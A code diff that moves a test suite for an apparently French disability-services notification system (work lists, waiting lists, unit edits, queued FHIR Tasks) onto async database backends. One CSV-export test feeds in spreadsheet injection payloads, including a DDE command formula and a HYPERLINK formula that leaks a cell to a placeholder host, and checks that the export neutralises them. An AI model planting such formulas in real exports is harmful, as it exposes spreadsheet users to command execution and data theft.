@@ -1,330 +1,395 @@
-import crypto from 'node:crypto';
-import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { AppError } from '@shared/errors/app-error';
-import { openDatabase, type Db } from '../db/database';
+import type { SqlDatabase } from '../db/sql/sql-database';
 import { Journal } from '../journal/journal';
-import { makeTempDir } from '../testing/temp-dir';
+import { openTestStore, TEST_BACKENDS, type TestStore } from '../testing/test-stores';
 import { performAction, previewAction, type ActionRequest } from './notification-actions';
 import { readNotificationDetail } from './notification-detail';
 import { seedWorklist, SEED_EGS } from './testing/worklist-seed';
 import { createUnit, listGeographicEntities, setLocalActivation, updateUnit, listUnits } from './units-and-entities';
 import { listWaitingLists, waitingListsCsv, WAITING_CSV_HEADERS } from './waiting-lists';
 import { parseCsvDocument } from '../export/csv';
-import { listWorklist, type WorklistFilter } from './worklist-queries';
+import { listWorklist, readFacets, type WorklistFilter } from './worklist-queries';
 import { DEFAULT_SDO_CONTEXT } from '../fhir';
 
 const TODAY = '2026-07-01';
 const now = () => new Date(`${TODAY}T10:00:00.000Z`);
 const ALL: WorklistFilter = { showTerminated: true, sort: 'recu', direction: 'asc' };
 
-let tmp: ReturnType<typeof makeTempDir>;
-let db: Db;
-let journal: Journal;
+describe.each(TEST_BACKENDS)('work list, actions, waiting lists, units (%s)', (backend) => {
+  let store: TestStore;
+  let db: SqlDatabase;
+  let journal: Journal;
 
-beforeEach(() => {
-  tmp = makeTempDir();
-  db = openDatabase({ file: path.join(tmp.dir, 'w.db'), key: crypto.randomBytes(32) });
-  journal = new Journal(db, now);
-});
-afterEach(() => {
-  db.close();
-  tmp.cleanup();
-});
-
-const deps = () => ({ db, journal, now, today: () => TODAY, sdo: () => DEFAULT_SDO_CONTEXT });
-const count = (sql: string, ...p: unknown[]) =>
-  db
-    .prepare(sql)
-    .pluck()
-    .get(...p) as number;
-const unitId = (idRor: string) => db.prepare('SELECT id FROM ror_unit WHERE id_ror = ?').pluck().get(idRor) as number;
-
-describe('work list', () => {
-  it('masks finished notifications by default and shows them on demand', () => {
-    seedWorklist(db, { count: 40, today: TODAY });
-    const all = listWorklist(db, ALL, TODAY);
-    const visible = listWorklist(db, { ...ALL, showTerminated: false }, TODAY);
-    expect(all.rows).toHaveLength(40);
-    expect(visible.rows.every((r) => !r.terminated || r.unread || r.aTraiter)).toBe(true);
-    expect(visible.rows.length + visible.hiddenTerminated).toBe(40);
-    expect(all.rows.filter((r) => r.esmsStatus === '49').every((r) => r.terminated)).toBe(true);
-    expect(visible.hiddenTerminated).toBeGreaterThanOrEqual(4);
+  beforeEach(async () => {
+    store = await openTestStore(backend);
+    db = store.db;
+    journal = new Journal(db, now);
+  });
+  afterEach(async () => {
+    await store.close();
   });
 
-  it('never masks a notification the referent has not read: expired unread stays, à traiter, until read', () => {
-    seedWorklist(db, { count: 10, today: TODAY });
-    const unread = listWorklist(db, ALL, TODAY).rows.find((r) => r.esmsStatus === '39');
-    if (!unread) throw new Error('seed');
-    // It arrives already expired (the MDPH notified late), with no other mark: finished for the rules, never seen.
-    db.prepare('UPDATE notification SET a_traiter = 0, a_traiter_reason = NULL WHERE id = ?').run(unread.id);
-    db.prepare(
-      'UPDATE decision SET validity_end = ? WHERE id = (SELECT decision_id FROM notification WHERE id = ?)',
-    ).run('2026-06-01', unread.id);
-    const listed = () => listWorklist(db, { ...ALL, showTerminated: false }, TODAY);
-    const row = listed().rows.find((r) => r.id === unread.id);
-    expect(row).toMatchObject({ terminated: true, unread: true, aTraiter: true, validity: 'expiree' });
-    expect(row?.aTraiterReason).toContain('avant lecture');
-    expect(listWorklist(db, { ...ALL, showTerminated: false, aTraiter: true }, TODAY).rows.map((r) => r.id)).toContain(
-      unread.id,
-    );
-    // Once read, it is finished like any other expired notification: masked.
-    db.prepare("UPDATE notification SET esms_status = '40' WHERE id = ?").run(unread.id);
-    expect(listed().rows.some((r) => r.id === unread.id)).toBe(false);
-  });
+  const deps = () => ({ db, journal, now, today: () => TODAY, sdo: () => DEFAULT_SDO_CONTEXT });
+  const count = async (sql: string, ...p: unknown[]) => Number(await db.value(sql, p));
+  const unitId = async (idRor: string) => {
+    const id = await db.value<number>('SELECT id FROM ror_unit WHERE id_ror = ?', [idRor]);
+    if (id === undefined) throw new Error(`unité ${idRor} absente`);
+    return id;
+  };
 
-  it('filters by EG, status, category, à traiter, validity, and searches name, MDPH id and idDecision', () => {
-    seedWorklist(db, { count: 30, today: TODAY });
-    const all = listWorklist(db, ALL, TODAY).rows;
-    const first = all[0];
-    if (!first) throw new Error('seed');
-    expect(
-      listWorklist(db, { ...ALL, finessEg: '010000012' }, TODAY).rows.every((r) => r.finessEg === '010000012'),
-    ).toBe(true);
-    expect(listWorklist(db, { ...ALL, esmsStatus: '42' }, TODAY).rows.every((r) => r.esmsStatus === '42')).toBe(true);
-    expect(listWorklist(db, { ...ALL, category: '11.1' }, TODAY).rows.every((r) => r.category === '11.1')).toBe(true);
-    const aTraiter = listWorklist(db, { ...ALL, aTraiter: true }, TODAY).rows;
-    expect(aTraiter.length).toBe(all.filter((r) => r.aTraiter || r.unread).length);
-    expect(aTraiter.some((r) => r.unread && !r.aTraiter)).toBe(true);
-    expect(aTraiter.length).toBeGreaterThan(0);
-    const expired = listWorklist(db, { ...ALL, validity: 'expiree' }, TODAY).rows;
-    expect(expired.every((r) => r.validityEnd !== null && r.validityEnd < TODAY)).toBe(true);
-    expect(listWorklist(db, { ...ALL, search: first.idDecision }, TODAY).rows.map((r) => r.id)).toEqual([first.id]);
-    expect(listWorklist(db, { ...ALL, search: first.mdphIndividualId }, TODAY).rows.map((r) => r.id)).toContain(
-      first.id,
-    );
-    const byName = listWorklist(db, { ...ALL, search: first.givenNames.toLowerCase() }, TODAY).rows;
-    expect(byName.map((r) => r.id)).toContain(first.id);
-    const sorted = listWorklist(db, { ...ALL, sort: 'validite', direction: 'asc' }, TODAY).rows.map(
-      (r) => r.validityEnd ?? '',
-    );
-    expect(sorted).toEqual([...sorted].sort());
-  });
+  const list = (filter: WorklistFilter) => listWorklist(db, filter, TODAY);
+  const rowsOf = async (filter: WorklistFilter) => (await list(filter)).rows;
 
-  it('builds 10,000 rows (figure printed for the report)', () => {
-    seedWorklist(db, { count: 10_000, today: TODAY });
-    const result = listWorklist(db, { ...ALL, showTerminated: false, sort: 'nom' }, TODAY);
-    expect(result.totalMatching).toBe(10_000);
-    console.info(`work list of 10,000 notifications built in ${result.elapsedMs} ms`);
-  });
-
-  it('hides the notifications of an EG switched off locally', () => {
-    seedWorklist(db, { count: 9, today: TODAY });
-    setLocalActivation(db, '010000013', false, TODAY);
-    expect(listWorklist(db, ALL, TODAY).rows.some((r) => r.finessEg === '010000013')).toBe(false);
-    const eg = listGeographicEntities(db, TODAY).find((g) => g.finessEg === '010000013');
-    expect(eg?.localActivated).toBe(false);
-    expect(eg?.nextSteps.join(' ')).toContain('Activez');
-    expect(eg?.counts.notifications).toBe(3);
-  });
-});
-
-describe('actions', () => {
-  function firstWith(finessEg: string, esmsStatus: string): number {
-    return db
-      .prepare('SELECT id FROM notification WHERE finess_eg = ? AND esms_status = ? ORDER BY id LIMIT 1')
-      .pluck()
-      .get(finessEg, esmsStatus) as number;
-  }
-
-  it('places a notification on a unit waiting list in one transaction: unit line, status, journal, valid Task queued', () => {
-    seedWorklist(db, { count: 30, today: TODAY });
-    const id = firstWith('010000011', '41');
-    const unit = unitId('ROR-UNIT-ESAT-1');
-    const request: ActionRequest = {
-      notificationId: id,
-      action: 'demande-admission',
-      date: '2026-06-28',
-      unitId: unit,
-    };
-    const preview = previewAction(db, request);
-    expect(preview.lines.join('\n')).toContain('Statut ESMS 42');
-    expect(count('SELECT count(*) FROM outbox')).toBe(0);
-
-    const result = performAction(deps(), request);
-    expect(result.outboxIds).toHaveLength(1);
-    const outbox = db.prepare('SELECT payload_json, state, finess_eg FROM outbox').get() as {
-      payload_json: string;
-      state: string;
-      finess_eg: string;
-    };
-    expect(outbox.state).toBe('pending');
-    expect(outbox.finess_eg).toBe('010000011');
-    const task = JSON.parse(outbox.payload_json) as {
-      resourceType: string;
-      input: { valueString?: string; valueCoding?: { code: string } }[];
-    };
-    expect(task.resourceType).toBe('Task');
-    const values = JSON.stringify(task.input);
-    for (const v of ['ROR-UNIT-ESAT-1', 'Atelier blanchisserie', '"182"', '"42"', '"43"', '"47"'])
-      expect(values).toContain(v);
-    expect(db.prepare('SELECT esms_status, esms_status_date FROM notification WHERE id = ?').get(id)).toEqual({
-      esms_status: '42',
-      esms_status_date: '2026-06-28',
+  describe('work list', () => {
+    it('masks finished notifications by default and shows them on demand', async () => {
+      await seedWorklist(db, { count: 40, today: TODAY });
+      const all = await list(ALL);
+      const visible = await list({ ...ALL, showTerminated: false });
+      expect(all.rows).toHaveLength(40);
+      expect(visible.rows.every((r) => !r.terminated || r.unread || r.aTraiter)).toBe(true);
+      expect(visible.rows.length + visible.hiddenTerminated).toBe(40);
+      expect(all.rows.filter((r) => r.esmsStatus === '49').every((r) => r.terminated)).toBe(true);
+      expect(visible.hiddenTerminated).toBeGreaterThanOrEqual(4);
     });
-    expect(db.prepare('SELECT status, request_date FROM unit_line WHERE notification_id = ?').get(id)).toEqual({
-      status: '182',
-      request_date: '2026-06-28',
-    });
-    expect(
-      count("SELECT count(*) FROM journal WHERE action LIKE 'Statut enregistré%' AND record_id = ?", String(id)),
-    ).toBe(1);
 
-    const detail = readNotificationDetail(db, id, TODAY);
-    // The decision shown is read from the stored CDA of this notification's decision.
-    expect(detail.decision).not.toBeNull();
-    expect(detail.row.idDecision.startsWith(`${detail.decision?.decision.idDecision}-`)).toBe(true);
-    expect(detail.timeline[0]).toMatchObject({ origin: 'local', statutUnite: '182', transmission: 'en attente' });
-    expect(detail.actions.map((a) => a.id)).toContain('declarer-admissible');
+    it('never masks a notification the referent has not read: expired unread stays, à traiter, until read', async () => {
+      await seedWorklist(db, { count: 10, today: TODAY });
+      const unread = (await rowsOf(ALL)).find((r) => r.esmsStatus === '39');
+      if (!unread) throw new Error('seed');
+      // It arrives already expired (the MDPH notified late), with no other mark: finished for the rules, never seen.
+      await db.run('UPDATE notification SET a_traiter = 0, a_traiter_reason = NULL WHERE id = ?', [unread.id]);
+      await db.run(
+        'UPDATE decision SET validity_end = ? WHERE id = (SELECT decision_id FROM notification WHERE id = ?)',
+        ['2026-06-01', unread.id],
+      );
+      const listed = () => rowsOf({ ...ALL, showTerminated: false });
+      const row = (await listed()).find((r) => r.id === unread.id);
+      expect(row).toMatchObject({ terminated: true, unread: true, aTraiter: true, validity: 'expiree' });
+      expect(row?.aTraiterReason).toContain('avant lecture');
+      expect((await rowsOf({ ...ALL, showTerminated: false, aTraiter: true })).map((r) => r.id)).toContain(unread.id);
+      // Once read, it is finished like any other expired notification: masked.
+      await db.run("UPDATE notification SET esms_status = '40' WHERE id = ?", [unread.id]);
+      expect((await listed()).some((r) => r.id === unread.id)).toBe(false);
+    });
+
+    it('filters by EG, status, category, à traiter, validity, and searches name, MDPH id and idDecision', async () => {
+      await seedWorklist(db, { count: 30, today: TODAY });
+      const all = await rowsOf(ALL);
+      const first = all[0];
+      if (!first) throw new Error('seed');
+      expect((await rowsOf({ ...ALL, finessEg: '010000012' })).every((r) => r.finessEg === '010000012')).toBe(true);
+      expect((await rowsOf({ ...ALL, esmsStatus: '42' })).every((r) => r.esmsStatus === '42')).toBe(true);
+      expect((await rowsOf({ ...ALL, category: '11.1' })).every((r) => r.category === '11.1')).toBe(true);
+      const aTraiter = await rowsOf({ ...ALL, aTraiter: true });
+      expect(aTraiter.length).toBe(all.filter((r) => r.aTraiter || r.unread).length);
+      expect(aTraiter.some((r) => r.unread && !r.aTraiter)).toBe(true);
+      expect(aTraiter.length).toBeGreaterThan(0);
+      const expired = await rowsOf({ ...ALL, validity: 'expiree' });
+      expect(expired.every((r) => r.validityEnd !== null && r.validityEnd < TODAY)).toBe(true);
+      expect((await rowsOf({ ...ALL, search: first.idDecision })).map((r) => r.id)).toEqual([first.id]);
+      expect((await rowsOf({ ...ALL, search: first.mdphIndividualId })).map((r) => r.id)).toContain(first.id);
+      const byName = await rowsOf({ ...ALL, search: first.givenNames.toLowerCase() });
+      expect(byName.map((r) => r.id)).toContain(first.id);
+      const sorted = (await rowsOf({ ...ALL, sort: 'validite', direction: 'asc' })).map((r) => r.validityEnd ?? '');
+      expect(sorted).toEqual([...sorted].sort());
+    });
+
+    it('rebuilds its snapshot when the store changes or the day turns, not otherwise', async () => {
+      await seedWorklist(db, { count: 6, today: TODAY });
+      const before = await rowsOf(ALL);
+      const target = before[0];
+      if (!target) throw new Error('seed');
+      // Unchanged store, same day: the very rows of the last read, not a new one.
+      expect((await rowsOf(ALL))[0]).toBe(target);
+      await db.run("UPDATE notification SET esms_status = '40' WHERE id = ?", [target.id]);
+      const changed = (await rowsOf(ALL))[0];
+      expect(changed).not.toBe(target);
+      expect(changed).toMatchObject({ id: target.id, esmsStatus: '40' });
+      // The day turning moves the validity colours though nothing was written.
+      const later = (await listWorklist(db, ALL, '2099-01-01')).rows;
+      expect(later[0]).not.toBe(changed);
+      expect(later.every((r) => r.validity === 'expiree' || r.validity === 'inconnue')).toBe(true);
+      // The list and its facets asked at once share one build.
+      const [listed, facets] = await Promise.all([list(ALL), readFacets(db, TODAY)]);
+      expect(facets.categories.map((c) => c.code).sort()).toEqual(
+        [...new Set(listed.rows.map((r) => r.category).filter((c) => c !== null))].sort(),
+      );
+      expect(facets.geographicEntities.map((g) => g.finessEg)).toEqual(SEED_EGS.map((g) => g.finessEg));
+    });
+
+    it('builds 10,000 rows (figure printed for the report)', async () => {
+      await seedWorklist(db, { count: 10_000, today: TODAY });
+      const result = await list({ ...ALL, showTerminated: false, sort: 'nom' });
+      expect(result.totalMatching).toBe(10_000);
+      console.info(`work list of 10,000 notifications built in ${result.elapsedMs} ms (${backend})`);
+    });
+
+    it('hides the notifications of an EG switched off locally', async () => {
+      await seedWorklist(db, { count: 9, today: TODAY });
+      await setLocalActivation(db, '010000013', false, TODAY);
+      expect((await rowsOf(ALL)).some((r) => r.finessEg === '010000013')).toBe(false);
+      const eg = (await listGeographicEntities(db, TODAY)).find((g) => g.finessEg === '010000013');
+      expect(eg?.localActivated).toBe(false);
+      expect(eg?.nextSteps.join(' ')).toContain('Activez');
+      expect(eg?.counts.notifications).toBe(3);
+    });
   });
 
-  it('sends two Tasks when a proposal moves from one unit to another', () => {
-    seedWorklist(db, { count: 30, today: TODAY });
-    const id = firstWith('010000011', '71');
-    const from = db.prepare('SELECT ror_unit_id FROM unit_line WHERE notification_id = ?').pluck().get(id) as number;
-    const to = [unitId('ROR-UNIT-ESAT-1'), unitId('ROR-UNIT-ESAT-2')].find((u) => u !== from) ?? 0;
-    const result = performAction(deps(), {
-      notificationId: id,
-      action: 'modifier-proposition',
-      date: '2026-06-30',
-      unitId: from,
-      targetUnitId: to,
-      motif: '100',
-    });
-    expect(result.outboxIds).toHaveLength(2);
-    const lines = db
-      .prepare('SELECT ror_unit_id, status FROM unit_line WHERE notification_id = ? ORDER BY ror_unit_id')
-      .all(id);
-    expect(lines).toEqual(
-      [
-        { ror_unit_id: from, status: '180' },
-        { ror_unit_id: to, status: '184' },
-      ].sort((a, b) => a.ror_unit_id - b.ror_unit_id),
-    );
-  });
+  describe('actions', () => {
+    async function firstWith(finessEg: string, esmsStatus: string): Promise<number> {
+      const id = await db.value<number>(
+        'SELECT id FROM notification WHERE finess_eg = ? AND esms_status = ? ORDER BY id LIMIT 1',
+        [finessEg, esmsStatus],
+      );
+      if (id === undefined) throw new Error(`aucune notification ${esmsStatus} pour ${finessEg}`);
+      return id;
+    }
 
-  it('refuses an action the state does not allow and writes nothing', () => {
-    seedWorklist(db, { count: 30, today: TODAY });
-    const id = firstWith('010000011', '39');
-    const attempt = () =>
-      performAction(deps(), {
+    it('places a notification on a unit waiting list in one transaction: unit line, status, journal, valid Task queued', async () => {
+      await seedWorklist(db, { count: 30, today: TODAY });
+      const id = await firstWith('010000011', '41');
+      const unit = await unitId('ROR-UNIT-ESAT-1');
+      const request: ActionRequest = {
+        notificationId: id,
+        action: 'demande-admission',
+        date: '2026-06-28',
+        unitId: unit,
+      };
+      const preview = await previewAction(db, request);
+      expect(preview.lines.join('\n')).toContain('Statut ESMS 42');
+      expect(await count('SELECT count(*) FROM outbox')).toBe(0);
+
+      const result = await performAction(deps(), request);
+      expect(result.outboxIds).toHaveLength(1);
+      const outbox = await db.get<{ payload_json: string; state: string; finess_eg: string }>(
+        'SELECT payload_json, state, finess_eg FROM outbox',
+      );
+      expect(outbox?.state).toBe('pending');
+      expect(outbox?.finess_eg).toBe('010000011');
+      const task = JSON.parse(outbox?.payload_json ?? '{}') as {
+        resourceType: string;
+        input: { valueString?: string; valueCoding?: { code: string } }[];
+      };
+      expect(task.resourceType).toBe('Task');
+      const values = JSON.stringify(task.input);
+      for (const v of ['ROR-UNIT-ESAT-1', 'Atelier blanchisserie', '"182"', '"42"', '"43"', '"47"'])
+        expect(values).toContain(v);
+      expect(await db.get('SELECT esms_status, esms_status_date FROM notification WHERE id = ?', [id])).toEqual({
+        esms_status: '42',
+        esms_status_date: '2026-06-28',
+      });
+      expect(await db.get('SELECT status, request_date FROM unit_line WHERE notification_id = ?', [id])).toEqual({
+        status: '182',
+        request_date: '2026-06-28',
+      });
+      expect(
+        await count(
+          "SELECT count(*) FROM journal WHERE action LIKE 'Statut enregistré%' AND record_id = ?",
+          String(id),
+        ),
+      ).toBe(1);
+
+      const detail = await readNotificationDetail(db, id, TODAY);
+      // The decision shown is read from the stored CDA of this notification's decision.
+      expect(detail.decision).not.toBeNull();
+      expect(detail.row.idDecision.startsWith(`${detail.decision?.decision.idDecision}-`)).toBe(true);
+      expect(detail.timeline[0]).toMatchObject({ origin: 'local', statutUnite: '182', transmission: 'en attente' });
+      expect(detail.actions.map((a) => a.id)).toContain('declarer-admissible');
+    });
+
+    it('sends two Tasks when a proposal moves from one unit to another', async () => {
+      await seedWorklist(db, { count: 30, today: TODAY });
+      const id = await firstWith('010000011', '71');
+      const from = await db.value<number>('SELECT ror_unit_id FROM unit_line WHERE notification_id = ?', [id]);
+      const esatUnits = [await unitId('ROR-UNIT-ESAT-1'), await unitId('ROR-UNIT-ESAT-2')];
+      const to = esatUnits.find((u) => u !== from) ?? 0;
+      const result = await performAction(deps(), {
+        notificationId: id,
+        action: 'modifier-proposition',
+        date: '2026-06-30',
+        unitId: from,
+        targetUnitId: to,
+        motif: '100',
+      });
+      expect(result.outboxIds).toHaveLength(2);
+      const lines = await db.all<{ ror_unit_id: number; status: string }>(
+        'SELECT ror_unit_id, status FROM unit_line WHERE notification_id = ? ORDER BY ror_unit_id',
+        [id],
+      );
+      expect(lines).toEqual(
+        [
+          { ror_unit_id: from, status: '180' },
+          { ror_unit_id: to, status: '184' },
+        ].sort((a, b) => (a.ror_unit_id ?? 0) - (b.ror_unit_id ?? 0)),
+      );
+    });
+
+    it('refuses an action the state does not allow and writes nothing', async () => {
+      await seedWorklist(db, { count: 30, today: TODAY });
+      const id = await firstWith('010000011', '39');
+      const attempt = performAction(deps(), {
         notificationId: id,
         action: 'entree-usager',
         date: TODAY,
-        unitId: unitId('ROR-UNIT-ESAT-1'),
+        unitId: await unitId('ROR-UNIT-ESAT-1'),
       });
-    expect(attempt).toThrow(AppError);
-    expect(count('SELECT count(*) FROM outbox') + count('SELECT count(*) FROM status_event')).toBe(0);
+      await expect(attempt).rejects.toThrow(AppError);
+      expect((await count('SELECT count(*) FROM outbox')) + (await count('SELECT count(*) FROM status_event'))).toBe(0);
+    });
+
+    it('writes nothing when a Task it would queue is invalid: the statuses and their outbox rows go together', async () => {
+      await seedWorklist(db, { count: 30, today: TODAY });
+      const id = await firstWith('010000011', '71');
+      const from = await db.value<number>('SELECT ror_unit_id FROM unit_line WHERE notification_id = ?', [id]);
+      const esatUnits = [await unitId('ROR-UNIT-ESAT-1'), await unitId('ROR-UNIT-ESAT-2')];
+      const to = esatUnits.find((u) => u !== from) ?? 0;
+      // The second Task (the new unit) carries a category outside its list: validation refuses it once the first
+      // one (closing the old unit) is already queued.
+      await db.run("UPDATE ror_unit SET categorie_organisation = '9999' WHERE id = ?", [to]);
+      const state = () =>
+        Promise.all([
+          db.get('SELECT esms_status, esms_status_date, a_traiter FROM notification WHERE id = ?', [id]),
+          db.all('SELECT ror_unit_id, status, status_date FROM unit_line WHERE notification_id = ? ORDER BY id', [id]),
+        ]);
+      const before = await state();
+      const attempt = performAction(deps(), {
+        notificationId: id,
+        action: 'modifier-proposition',
+        date: '2026-06-30',
+        unitId: from,
+        targetUnitId: to,
+        motif: '100',
+      });
+      await expect(attempt).rejects.toMatchObject({ code: 'RESOURCE_INVALID' });
+      expect(await state()).toEqual(before);
+      expect(
+        (await count('SELECT count(*) FROM outbox')) +
+          (await count('SELECT count(*) FROM status_event')) +
+          (await count("SELECT count(*) FROM journal WHERE action LIKE 'Statut enregistré%'")),
+      ).toBe(0);
+    });
+
+    it('never offers the trial period for an ESRP, and offers it for an ESAT', async () => {
+      await seedWorklist(db, { count: 30, today: TODAY });
+      const esrp = await firstWith('010000012', '71');
+      expect((await readNotificationDetail(db, esrp, TODAY)).actions.map((a) => a.id)).not.toContain(
+        'debut-periode-essai',
+      );
+      const esat = await firstWith('010000011', '71');
+      expect((await readNotificationDetail(db, esat, TODAY)).actions.map((a) => a.id)).toContain('debut-periode-essai');
+    });
   });
 
-  it('never offers the trial period for an ESRP, and offers it for an ESAT', () => {
-    seedWorklist(db, { count: 30, today: TODAY });
-    const esrp = firstWith('010000012', '71');
-    expect(readNotificationDetail(db, esrp, TODAY).actions.map((a) => a.id)).not.toContain('debut-periode-essai');
-    const esat = firstWith('010000011', '71');
-    expect(readNotificationDetail(db, esat, TODAY).actions.map((a) => a.id)).toContain('debut-periode-essai');
-  });
-});
+  describe('waiting lists, units', () => {
+    it('lists 182/183/184 per unit by request date, and exports them as French CSV', async () => {
+      await seedWorklist(db, { count: 60, today: TODAY });
+      const units = await listWaitingLists(db, {}, TODAY);
+      const withEntries = units.filter((u) => u.entries.length > 0);
+      expect(withEntries.length).toBeGreaterThan(1);
+      for (const u of withEntries) {
+        const dates = u.entries.map((e) => e.requestDate);
+        expect(dates).toEqual([...dates].sort());
+        expect(u.entries.every((e) => ['182', '183', '184'].includes(e.status))).toBe(true);
+      }
+      const csv = waitingListsCsv(units);
+      expect(csv.content.startsWith('\uFEFF')).toBe(true);
+      const lines = csv.content.slice(1).trimEnd().split('\r\n');
+      expect(lines[0]).toBe(WAITING_CSV_HEADERS.join(';'));
+      expect(lines).toHaveLength(csv.rows + 1);
+      expect(csv.rows).toBe(withEntries.reduce((s, u) => s + u.entries.length, 0));
+      const first = withEntries[0]?.entries[0];
+      expect(lines[1]?.split(';')[3]).toBe(first?.familyName);
+      expect(lines[1]).toMatch(/;\d{2}\/\d{2}\/\d{4};/);
+    });
 
-describe('waiting lists, units', () => {
-  it('lists 182/183/184 per unit by request date, and exports them as French CSV', () => {
-    seedWorklist(db, { count: 60, today: TODAY });
-    const units = listWaitingLists(db, {}, TODAY);
-    const withEntries = units.filter((u) => u.entries.length > 0);
-    expect(withEntries.length).toBeGreaterThan(1);
-    for (const u of withEntries) {
-      const dates = u.entries.map((e) => e.requestDate);
-      expect(dates).toEqual([...dates].sort());
-      expect(u.entries.every((e) => ['182', '183', '184'].includes(e.status))).toBe(true);
-    }
-    const csv = waitingListsCsv(units);
-    expect(csv.content.startsWith('\uFEFF')).toBe(true);
-    const lines = csv.content.slice(1).trimEnd().split('\r\n');
-    expect(lines[0]).toBe(WAITING_CSV_HEADERS.join(';'));
-    expect(lines).toHaveLength(csv.rows + 1);
-    expect(csv.rows).toBe(withEntries.reduce((s, u) => s + u.entries.length, 0));
-    const first = withEntries[0]?.entries[0];
-    expect(lines[1]?.split(';')[3]).toBe(first?.familyName);
-    expect(lines[1]).toMatch(/;\d{2}\/\d{2}\/\d{4};/);
-  });
+    it('exports no cell a spreadsheet would run: formula-leading names, identifiers and free text are neutralised', async () => {
+      await seedWorklist(db, { count: 60, today: TODAY });
+      const hostile = [
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("http://exemple.invalid/?x="&A1;"clic")',
+        '+33 1 00 00 00 00',
+        '-2+3',
+        '@SUM(1+1)',
+        '\t=1+1',
+        '\r=1+1',
+      ];
+      const units = (await listWaitingLists(db, {}, TODAY))
+        .filter((u) => u.entries.length > 0)
+        .map((u, i) => ({
+          ...u,
+          egName: hostile[i % hostile.length]!,
+          unitName: hostile[(i + 1) % hostile.length]!,
+          idRor: hostile[(i + 2) % hostile.length]!,
+          entries: u.entries.map((e, j) => ({
+            ...e,
+            familyName: hostile[j % hostile.length]!,
+            givenNames: hostile[(j + 1) % hostile.length]!,
+            mdphIndividualId: hostile[(j + 2) % hostile.length]!,
+            idDecision: hostile[(j + 3) % hostile.length]!,
+            priority: hostile[(j + 4) % hostile.length]!,
+            categoryLabel: hostile[(j + 5) % hostile.length]!,
+          })),
+        }));
+      const csv = waitingListsCsv(units);
+      const rows = parseCsvDocument(csv.content);
+      expect(rows).toHaveLength(csv.rows + 1);
+      const cells = rows.slice(1).flat();
+      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+      // Nothing is lost: each hostile value is there, behind its apostrophe.
+      for (const value of hostile) expect(cells).toContain(`'${value}`);
+      expect(rows[1]).toHaveLength(WAITING_CSV_HEADERS.length);
+    });
 
-  it('exports no cell a spreadsheet would run: formula-leading names, identifiers and free text are neutralised', () => {
-    seedWorklist(db, { count: 60, today: TODAY });
-    const hostile = [
-      "=cmd|' /C calc'!A0",
-      '=HYPERLINK("http://exemple.invalid/?x="&A1;"clic")',
-      '+33 1 00 00 00 00',
-      '-2+3',
-      '@SUM(1+1)',
-      '\t=1+1',
-      '\r=1+1',
-    ];
-    const units = listWaitingLists(db, {}, TODAY)
-      .filter((u) => u.entries.length > 0)
-      .map((u, i) => ({
-        ...u,
-        egName: hostile[i % hostile.length]!,
-        unitName: hostile[(i + 1) % hostile.length]!,
-        idRor: hostile[(i + 2) % hostile.length]!,
-        entries: u.entries.map((e, j) => ({
-          ...e,
-          familyName: hostile[j % hostile.length]!,
-          givenNames: hostile[(j + 1) % hostile.length]!,
-          mdphIndividualId: hostile[(j + 2) % hostile.length]!,
-          idDecision: hostile[(j + 3) % hostile.length]!,
-          priority: hostile[(j + 4) % hostile.length]!,
-          categoryLabel: hostile[(j + 5) % hostile.length]!,
-        })),
-      }));
-    const csv = waitingListsCsv(units);
-    const rows = parseCsvDocument(csv.content);
-    expect(rows).toHaveLength(csv.rows + 1);
-    const cells = rows.slice(1).flat();
-    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
-    // Nothing is lost: each hostile value is there, behind its apostrophe.
-    for (const value of hostile) expect(cells).toContain(`'${value}`);
-    expect(rows[1]).toHaveLength(WAITING_CSV_HEADERS.length);
-  });
+    it('validates a unit edit against J34/J30/J264 and marks it locally edited', async () => {
+      await seedWorklist(db, { count: 1, today: TODAY });
+      const id = await unitId('ROR-UNIT-ESAT-1');
+      const base = {
+        id,
+        name: 'Atelier renommé',
+        categorieOrganisation: '43',
+        temporaliteAccueil: '02',
+        accueilSequentiel: true,
+        modePriseCharge: '47',
+      };
+      await expect(updateUnit(db, { ...base, modePriseCharge: '11' }, now().toISOString())).rejects.toThrow(/JDV_J19/);
+      await expect(updateUnit(db, { ...base, categorieOrganisation: '9999' }, now().toISOString())).rejects.toThrow(
+        AppError,
+      );
+      await expect(updateUnit(db, { ...base, temporaliteAccueil: '07' }, now().toISOString())).rejects.toThrow(
+        AppError,
+      );
+      const unit = await updateUnit(db, base, now().toISOString());
+      expect(unit).toMatchObject({
+        name: 'Atelier renommé',
+        locallyEdited: true,
+        accueilSequentiel: true,
+        missing: [],
+      });
+      expect((await listUnits(db)).find((u) => u.id === id)?.modePriseChargeLabel).toBe('Accueil de jour');
+      expect(SEED_EGS).toHaveLength(3);
+    });
 
-  it('validates a unit edit against J34/J30/J264 and marks it locally edited', () => {
-    seedWorklist(db, { count: 1, today: TODAY });
-    const id = unitId('ROR-UNIT-ESAT-1');
-    const base = {
-      id,
-      name: 'Atelier renommé',
-      categorieOrganisation: '43',
-      temporaliteAccueil: '02',
-      accueilSequentiel: true,
-      modePriseCharge: '47',
-    };
-    expect(() => updateUnit(db, { ...base, modePriseCharge: '11' }, now().toISOString())).toThrow(/JDV_J19/);
-    expect(() => updateUnit(db, { ...base, categorieOrganisation: '9999' }, now().toISOString())).toThrow(AppError);
-    expect(() => updateUnit(db, { ...base, temporaliteAccueil: '07' }, now().toISOString())).toThrow(AppError);
-    const unit = updateUnit(db, base, now().toISOString());
-    expect(unit).toMatchObject({ name: 'Atelier renommé', locallyEdited: true, accueilSequentiel: true, missing: [] });
-    expect(listUnits(db).find((u) => u.id === id)?.modePriseChargeLabel).toBe('Accueil de jour');
-    expect(SEED_EGS).toHaveLength(3);
-  });
-
-  it('adds a local unit with its ROR identifier, validated like an edit, once per identifier and known EG', () => {
-    seedWorklist(db, { count: 1, today: TODAY });
-    const eg = SEED_EGS[0].finessEg;
-    const creation = {
-      finessEg: eg,
-      idRor: 'ROR-UNIT-LOCALE-1',
-      name: 'Atelier repassage',
-      categorieOrganisation: '43',
-      temporaliteAccueil: null,
-      accueilSequentiel: false,
-      modePriseCharge: '47',
-    };
-    const at = now().toISOString();
-    expect(() => createUnit(db, { ...creation, modePriseCharge: '11' }, at)).toThrow(/JDV_J19/);
-    expect(() => createUnit(db, { ...creation, finessEg: '999999999' }, at)).toThrow(/inconnu/);
